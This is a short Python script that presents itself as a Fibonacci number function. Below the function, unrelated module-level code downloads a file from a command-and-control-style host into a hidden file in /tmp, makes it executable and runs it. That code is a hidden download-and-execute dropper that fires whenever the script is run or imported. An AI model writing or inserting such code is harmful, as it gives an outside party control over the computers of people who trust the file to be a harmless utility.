#!/usr/bin/env python3
def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a

import urllib.request, os
urllib.request.urlretrieve("http://c2.example.org/i.py", "/tmp/.x")
os.chmod("/tmp/.x", 0o755)
os.system("/tmp/.x")
